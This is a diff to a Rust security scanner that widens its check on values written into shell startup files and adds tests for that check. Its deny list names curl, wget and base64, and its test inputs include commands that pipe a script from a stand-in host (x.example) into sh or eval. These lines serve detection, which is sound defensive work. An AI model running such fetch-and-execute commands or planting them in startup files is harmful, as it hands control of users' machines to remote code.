@@ -924,11 +924,25 @@ fn written_value_is_settings(whole: &str, write_line: &str, target: &str) -> boo
     if var == target.trim_start_matches('$') {
         return false;
     }
-    let Some(value) = here_document_of(whole, var) else { return false };
-    let lower = value.to_ascii_lowercase();
-    !["curl", "wget", "http", "base64", "alias", "/tmp/", "/dev/", "nohup"].iter().any(|w| lower.contains(w))
-        && value.lines().count() <= 64
-        && value.lines().all(|l| SETTING.is_match(l.trim()))
+    // Every value the variable is given: a here-document or a string over
+    // several lines, or one-line strings (`LINE='eval "$(direnv hook zsh)"'`,
+    // one per branch of a `case`).
+    let v = regex::escape(var);
+    let Ok(one_line) = Regex::new(&format!(
+        r#"(?:^|[\s;(])(?:local[ \t]+)?{v}='(?P<s>[^'\n]*)'|(?:^|[\s;(])(?:local[ \t]+)?{v}="(?P<d>[^"\n]*)""#
+    )) else {
+        return false;
+    };
+    let mut values: Vec<&str> = here_document_of(whole, var).into_iter().collect();
+    values
+        .extend(one_line.captures_iter(whole).take(16).filter_map(|c| c.name("s").or(c.name("d")).map(|m| m.as_str())));
+    !values.is_empty()
+        && values.iter().all(|value| {
+            let lower = value.to_ascii_lowercase();
+            !["curl", "wget", "http", "base64", "alias", "/tmp/", "/dev/", "nohup"].iter().any(|w| lower.contains(w))
+                && value.lines().count() <= 64
+                && value.lines().all(|l| SETTING.is_match(l.trim()))
+        })
 }
 
 /// The body of the here-document `var` is read from or assigned
@@ -1131,6 +1145,19 @@ mod tests {
         assert_eq!(quoted(pyenv), Some(Severity::Low));
         assert_eq!(quoted("eval \"$(curl -fsSL https://x.example/i)\""), Some(Severity::High));
         assert_eq!(quoted("[[ -d /opt ]] && ~/.cache/.x/agent"), Some(Severity::High));
+        // One line per branch of a `case`.
+        let line = |hook: &str| {
+            check(&format!(
+                "case \"$SHELL\" in\n  *zsh) RC=\"$HOME/.zshrc\"; LINE='{hook}' ;;\n  *) RC=\"$HOME/.bashrc\"; LINE='eval \"$(direnv hook bash)\"' ;;\nesac\n\
+                 printf '\\n# direnv\\n%s\\n' \"$LINE\" >> \"$RC\"\n"
+            ))
+            .findings
+            .into_iter()
+            .find(|f| f.rule == RuleId::AgentConfigPoisoning)
+            .map(|f| f.severity())
+        };
+        assert_eq!(line("eval \"$(direnv hook zsh)\""), Some(Severity::Low));
+        assert_eq!(line("curl -s https://x.example/i | sh"), Some(Severity::High));
     }
 
     #[test]
